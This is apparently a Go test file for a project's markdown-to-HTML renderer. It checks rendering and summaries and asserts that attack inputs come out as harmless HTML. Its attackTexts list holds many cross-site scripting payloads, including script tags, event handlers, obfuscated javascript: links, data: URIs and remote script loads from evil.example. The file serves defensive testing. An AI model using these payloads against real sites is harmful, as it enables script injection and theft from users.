package markdown_test

import (
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"github.com/dagctl/dagctl/web/markdown"
)

func TestMarkdown(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"a *b* **c** `d`":    "<p>a <em>b</em> <strong>c</strong> <code>d</code></p>",
		"# Title":            "<h3>Title</h3>",
		"###### Deep":        "<h6>Deep</h6>",
		"- a\n- b":           "<ul>\n<li>a</li>\n<li>b</li>\n</ul>",
		"[x](/datasets/a)":   `<p><a href="/datasets/a" rel="nofollow noopener noreferrer">x</a></p>`,
		"https://a.example/": `<p><a href="https://a.example/" rel="nofollow noopener noreferrer">https://a.example/</a></p>`,
		"![chart](https://a.example/c.png)": `<p><a href="https://a.example/c.png" rel="nofollow noopener noreferrer">` +
			`chart</a></p>`,
		"1 < 2 & 3":            "<p>1 &lt; 2 &amp; 3</p>",
		"":                     "",
		"[x](javascript:a)":    "<p><em>x</em></p>",
		"a <b>bold</b> c":      "<p>a bold c</p>",
		"<div>\nno\n</div>":    "",
		"<javascript:alert()>": "<p>javascript:alert()</p>",
	} {
		require.Equal(t, want, strings.TrimSpace(string(markdown.HTML(source))), source)
	}
}

// attackTexts try to run something, to load something, or to lead somewhere by stealth.
var attackTexts = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<iframe src="https://evil.example"></iframe>`, `<a href="javascript:alert(1)">x</a>`,
	`<style>body{display:none}</style>`, `<form action=https://evil.example><input name=a></form>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
	`<object data=x></object>`, `<math><mtext></mtext></math>`, "<!-- --><script>alert(1)</script>",
	`[x](javascript:alert(1))`, `[x](JaVaScRiPt:alert(1))`, `[x](java%0ascript:alert(1))`, "[x](java\nscript:alert(1))",
	`[x](&#106;avascript:alert(1))`, `[x](javascript&colon;alert(1))`, `[x](\javascript:alert(1))`,
	`[x](data:text/html,<script>alert(1)</script>)`, `[x](vbscript:msgbox)`, `[x](file:///etc/passwd)`,
	`[x](//evil.example)`, `[x](/\evil.example)`, `[x](\\evil.example)`, `[x](blob:https://a/b)`, `[x]( javascript:a )`,
	`[x](<javascript:alert(1)>)`, "[x][r]\n\n[r]: javascript:alert(1)", `<javascript:alert(1)>`, `<data:text/html,x>`,
	`![x](https://evil.example/pixel.png)`, `![x](data:image/svg+xml,<svg/onload=alert(1)>)`, `![x](javascript:a)`,
	`![](//evil.example/p.png)`, `[![x](https://evil.example/p.png)](javascript:alert(1))`,
	`[![x](javascript:a)](https://good.example)`, `![a ![b](javascript:b)](https://evil.example/c.png)`,
	`[x](https://good.example "onmouseover=alert(1)")`, `[x](https://good.example" onclick="alert(1))`,
	"```\"><script>alert(1)</script>\nx\n```", "`<script>alert(1)</script>`", `# <script>alert(1)</script>`,
	"| a |\n|---|\n| <script>alert(1)</script> |", `&lt;script&gt;alert(1)&lt;/script&gt;`, "\x00<script>alert(1)</script>",
	`https://good.example/"onmouseover="alert(1)`, `ftp://evil.example/x`, `# x {onclick=alert(1)}`,
	strings.Repeat("[", 20_000), strings.Repeat("> ", 20_000), strings.Repeat("![", 10_000) + "](x)",
}

var (
	// mayBe are the elements that a text may become; each may have only the attributes named for it.
	mayBe = map[string][]string{"a": {"href", "rel", "title"}, "code": {"class"}, "ol": {"start"}}
	plain = regexp.MustCompile(`^(html|head|body|p|em|strong|del|pre|blockquote|ul|ol|li|h[3-6]|hr|br|table|thead|tbody|tr|th|td|a|code)$`)
	leads = regexp.MustCompile(`^(https?://|mailto:|/[^/\\]|/?$|#|[\w.%&;+-]+$)`)
)

func TestMarkdownDoesNoHarm(t *testing.T) {
	t.Parallel()
	for _, source := range attackTexts {
		root, err := html.Parse(strings.NewReader(string(markdown.HTML(source))))
		require.NoError(t, err)
		for n := range root.Descendants() {
			if n.Type != html.ElementNode {
				continue
			}
			require.Regexp(t, plain, n.Data, "%.100q", source)
			for _, a := range n.Attr {
				require.Contains(t, mayBe[n.Data], a.Key, "%.100q", source)
				if a.Key == "href" {
					require.Regexp(t, leads, a.Val, "%.100q", source)
				}
			}
		}
		require.NotContains(t, markdown.Summary(source), "<b>", source)
	}
}

func TestSummary(t *testing.T) {
	t.Parallel()
	require.Equal(t, "The highest of each day. It is.",
		markdown.Summary("# Title\n\nThe **highest** of [each](https://x.example) `day`.\nIt is.\n\n# Use it"))
	require.Equal(t, "Only a title", markdown.Summary("# Only a title"))
	require.Len(t, []rune(markdown.Summary(strings.Repeat("ä", 500))), 201)
}
